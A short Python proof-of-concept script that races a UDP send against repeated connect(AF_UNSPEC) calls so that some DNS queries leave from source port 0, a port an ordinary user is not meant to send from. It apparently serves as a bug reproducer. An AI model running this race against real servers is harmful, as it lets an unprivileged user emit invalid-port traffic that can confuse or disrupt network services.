"""Queries from source port 0, as any user can send them: a send that runs while another thread takes its socket's port
away. Arguments: address, port, count. Prints how many were sent, from any port; about one in ten is from port 0.
"""
import ctypes
import socket
import sys
import threading
import time

HOST, PORT, COUNT = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
QUERY = bytes.fromhex("123401000001000000000000") + b"\x0ca-10-78-80-1\x04pool\x04test\x00\x00\x01\x00\x01"
UNSPEC = bytes(16)
libc = ctypes.CDLL(None)
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sent = 0


def disconnect():
    while sent < COUNT:
        for _ in range(1000):
            libc.connect(sock.fileno(), UNSPEC, 16)


def send():
    global sent
    while sent < COUNT:
        try:
            sock.sendto(QUERY, (HOST, PORT))
            sent += 1
        except OSError:
            pass
        time.sleep(0.0005)


threads = [threading.Thread(target=disconnect), threading.Thread(target=send)]
for thread in threads:
    thread.start()
for thread in threads:
    thread.join()
print(sent)
